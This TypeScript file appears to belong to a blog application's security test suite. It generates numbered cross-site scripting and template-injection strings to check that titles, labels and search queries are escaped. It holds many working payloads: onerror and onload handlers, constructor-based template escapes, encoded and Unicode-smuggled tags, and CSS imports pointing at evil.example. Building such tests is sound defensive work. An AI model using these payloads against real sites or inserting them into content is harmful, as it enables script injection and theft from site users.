import { distinct, families } from './vectors/corpus.ts';
import { sparks, type Vector } from './vectors/vector.ts';

const [picture, script, drawing] = sparks;

/** What somebody may type, paste or put into an address, and no file of a blog may hold. */
const typedOnly: Vector[] = [
  // Characters that turn the direction around, or that nobody sees.
  (code) => `\u202E${picture(code)}\u202C`,
  (code) => `\u2066<img src=x\u2069 onerror=${code}>`,
  (code) => `<i\u200Bmg src=x onerror=${code}>${picture(code)}`,
  (code) => `<\uFEFFscript>${script(code)}`,
  // Nothing, and half of something.
  (code) => `<im\u0000g src=x onerror=${code}>`,
  (code) => `\u0000${drawing(code)}\u0000`,
  (code) => `<a href="java\u0000script:${code}">x</a>`,
  (code) => `\uD800${picture(code)}`,
  (code) => `${picture(code)}\uDC00`,
  (code) => `<img src=x onerror="${code}//\uDBFF">`,
  // Longer than a query may be: cut in a tag, in an attribute, in a character and in an entity.
  (code) => `${'a'.repeat(180)}${picture(code)}`,
  (code) => `<img src=x onerror="${code}//${'x'.repeat(5_000)}">`,
  (code) => `${picture(code)}${'a '.repeat(2_000)}`,
  (code) => `${picture(code).padEnd(199, 'a')}😀`,
  (code) => `${picture(code).padEnd(197, 'a')}&lt;`,
  (code) => `${'<b>'.repeat(50)}${picture(code)}`,
  (code) => `${'"'.repeat(90)}${script(code)}`,
];

/** What search programs and templates give a meaning of their own. */
const meaningful: Vector[] = [
  // Templates and expressions.
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `{{${picture(code)}}}`,
  (code) => `\${${code}}`,
  (code) => `#{${code}}<%= ${code} %>`,
  (code) => `{words}${picture(code)}`,
  (code) => `%7Bwords%7D${picture(code)}`,
  // Patterns of a replacement.
  (code) => `$&${picture(code)}`,
  (code) => `$\`$'$1$$${picture(code)}`,
  // The marks of an excerpt, and how it escapes.
  (code) => `<mark>${picture(code)}</mark>`,
  (code) => `</mark>${drawing(code)}<mark>`,
  (code) => `&lt;mark&gt;${script(code)}`,
  (code) => `&amp;lt;img src=x onerror=${code}&amp;gt;`,
  // What a query can say besides words.
  (code) => `"${picture(code)}"`,
  (code) => `-${picture(code)} "`,
  // Names that every object has.
  (code) => `__proto__ ${picture(code)}`,
  (code) => `constructor[prototype]${drawing(code)}`,
  // Styles.
  (code) => `</style><style>@import'//evil.example/${code}'`,
  (code) => `<p style=background:url(//evil.example/${code})>`,
  (code) => `<p style="width:expression(${code})">`,
  // Encodings.
  (code) => `%3Cimg%20src%3Dx%20onerror%3D${code}%3E`,
  (code) => `%253Csvg%2520onload%253D${code}%253E`,
  (code) => `%C0%BCscript%C0%BE${code}`,
  (code) => `\\x3cimg src=x onerror=${code}\\x3e`,
  (code) => `＜img src=x onerror=${code}＞`,
  // Places where a query may come to stand.
  (code) => `"><img src=x onerror=${code}>`,
  (code) => `'><svg onload=${code}>`,
  (code) => `" onfocus=${code} autofocus x="`,
  (code) => `' onmouseover='${code}`,
  (code) => `</title></textarea>${drawing(code)}`,
  (code) => `</script>${script(code)}`,
  (code) => `*/${code}/*`,
  (code) => `//evil.example/${code}`,
];

// Names that are taken run nothing by themselves.
const { clobbering: _names, ...running } = families;

/** Some attacks of a family in one line, from its whole length, so that there are all sorts. */
function sample(
  vectors: readonly Vector[],
  { count, from, to }: Record<'count' | 'from' | 'to', number>,
): Vector[] {
  const fitting = vectors.filter((vector) => {
    const text = vector('hit(999)').trim();
    return (
      text.length >= from && text.length <= to && !/[\p{Control}\p{Format}\u2028\u2029\u00A0]/u.test(text)
    );
  });
  const step = Math.max(1, fitting.length / count);
  return fitting.filter((_vector, place) => Math.floor(place / step) !== Math.floor((place - 1) / step));
}

/** Text that reports itself by its number when anything in it runs. */
export interface InjectionString {
  index: number;
  text: string;
}

// The label of a topic has no room for more, and every text is to stand everywhere.
const short = { count: 15, from: 1, to: 60 };
// Most trees that are built otherwise the second time take more.
const long = { count: 4, from: 61, to: 200 };
const sampled = (size: typeof short) => Object.values(running).flatMap((vectors) => sample(vectors, size));

const lasting = distinct([...sampled(short), ...meaningful]);
const numbered = (vectors: readonly Vector[]): InjectionString[] =>
  vectors.map((vector, index) => ({ index, text: vector(`hit(${index})`).trim() }));

/** What every title, label and name of a blog may be. */
export const storable = numbered(lasting);

const asked = distinct([...lasting, ...sampled(long), ...typedOnly]);

/** Everything that may be asked: the storable ones first. */
export const askable = numbered(asked);
